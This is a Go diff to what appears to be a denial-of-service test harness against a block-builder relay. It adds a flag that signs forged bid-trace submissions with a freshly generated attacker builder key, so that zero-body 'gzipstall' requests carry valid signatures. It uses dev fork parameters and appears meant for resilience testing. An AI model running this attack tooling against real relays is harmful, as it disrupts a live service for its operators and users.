@@ -14,6 +14,7 @@ import (
 	"bufio"
 	"bytes"
 	"compress/gzip"
+	"crypto/rand"
 	"crypto/ecdsa"
 	"encoding/json"
 	"flag"
@@ -56,6 +57,7 @@ var (
 	baseline = flag.Duration("baseline", 3*time.Second, "honest probes without attack before each run")
 	repeat   = flag.Int("repeat", 1, "runs (baseline, attack, settle) one after the other")
 	niceness = flag.Int("nice", 0, "niceness of the attacker process (the honest probes stay at 0)")
+	signed   = flag.Bool("signed", false, "gzipstall: sign the bid trace with a builder key of the attacker's own (the body is still zeros)")
 	sustain  = flag.Duration("sustain", 0, "each hostile connection, once answered, starts again on a new one until this has passed (0: once)")
 	role     = flag.String("role", "", "internal: attacker runs the attack alone and prints its answers")
 )
@@ -436,19 +438,59 @@ func body() []byte {
 	return nil
 }
 
-// dutyTrace is the SSZ bid trace of a submission for the last listed duty
-// (the furthest slot), naming its proposer and fee recipient.
+// dutyTrace is the SSZ prefix of a submission for the last listed duty
+// (the furthest slot), naming its proposer and fee recipient: the bid trace,
+// and with -signed a valid signature by a builder key of the attacker's own.
 func dutyTrace() []byte {
 	d := validatorDuties()
 	last := len(d) - 1
 	slot, _ := strconv.ParseUint(d[last].Slot, 10, 64)
 	reg := d.registration(last)
 	t := beacon.BidTrace{Slot: slot, ProposerPubkey: reg.Message.Pubkey, ProposerFeeRecipient: reg.Message.FeeRecipient, GasLimit: 30_000_000}
+	var key *beacon.SecretKey
+	if *signed {
+		ikm := make([]byte, 32)
+		rand.Read(ikm)
+		var err error
+		if key, err = beacon.DeriveSecretKey(ikm); err != nil {
+			fail(err)
+		}
+		t.BuilderPubkey = key.PublicKey()
+	}
 	out, err := t.MarshalSSZ()
 	if err != nil {
 		fail(err)
 	}
-	return out
+	if !*signed {
+		return out
+	}
+	sig, err := key.Sign(&t, beacon.BuilderDomain(&params.BeaconConfig{GenesisForkVersion: params.DevGenesisForkVersion}))
+	if err != nil {
+		fail(err)
+	}
+	prefix := make([]byte, beacon.SubmissionPrefixLen)
+	copy(prefix, out)
+	off := signatureOffset()
+	copy(prefix[off:], sig[:])
+	return prefix
+}
+
+// signatureOffset finds where a Fulu submission's signature lies in its
+// prefix, through beacon.SubmissionSignatureSSZ.
+func signatureOffset() int {
+	probe := make([]byte, beacon.SubmissionPrefixLen)
+	off := 0
+	for shift := 0; shift < 16; shift += 8 {
+		for i := range probe {
+			probe[i] = byte(i >> shift)
+		}
+		sig, err := beacon.SubmissionSignatureSSZ(params.ForkFulu, probe)
+		if err != nil {
+			fail(err)
+		}
+		off |= int(sig[0]) << shift
+	}
+	return off
 }
 
 // registrations is 90,000 copies (16.2 MB of SSZ) of a dev validator's
